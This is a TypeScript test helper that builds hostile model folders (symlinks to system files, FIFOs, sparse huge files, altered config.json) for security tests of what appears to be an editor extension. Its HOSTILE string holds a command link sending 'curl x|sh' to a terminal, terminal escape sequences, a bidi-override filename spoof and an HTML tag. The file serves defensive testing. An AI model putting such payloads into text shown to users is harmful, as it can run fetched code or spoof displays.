/**
 * Hostile model folders for the security cases (plain Node, tests only): a copy of a fixture
 * model whose files are then replaced — a config.json with a command link and terminal sequences,
 * files linked to system files or devices, FIFOs, oversized (sparse) files.
 */
import { cpSync, readFileSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import path from 'node:path';
import { fixture, scratch } from '../../support/paths';

/** A writable copy of the fixture `name` (default tiny-bert). */
export function modelCopy(name = 'tiny-bert'): string {
  const folder = path.join(scratch('lens-hostile-model-'), name);
  cpSync(fixture(name), folder, { recursive: true, dereference: true });
  return folder;
}

/** The copy's config.json with `changes` merged in. */
export function editConfig(folder: string, changes: Record<string, unknown>): void {
  const file = path.join(folder, 'config.json');
  writeFileSync(file, JSON.stringify({ ...(JSON.parse(readFileSync(file, 'utf8')) as object), ...changes }));
}

/** Replaces `file` in the folder by a symbolic link to `target`. */
export function linkFile(folder: string, file: string, target: string): void {
  rmSync(path.join(folder, file), { force: true });
  symlinkSync(target, path.join(folder, file));
}

/** Replaces `file` by a FIFO (nothing ever writes to it: reading it blocks forever). */
export function fifoFile(folder: string, file: string): void {
  rmSync(path.join(folder, file), { force: true });
  execFileSync('mkfifo', [path.join(folder, file)]);
}

/** Makes `file` a sparse file of `bytes` (no disk used). */
export function bigFile(folder: string, file: string, bytes: number): void {
  writeFileSync(path.join(folder, file), '');
  truncateSync(path.join(folder, file), bytes);
}

/** Text that would be a command link, a terminal escape and a bidi override if shown raw. */
export const HOSTILE =
  '[Fix it](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D) \u001b]8;;https://x\u0007link\u001b]8;;\u0007 \u001b[2J\u009b31m\u202Eexe.txt <img src=x>';
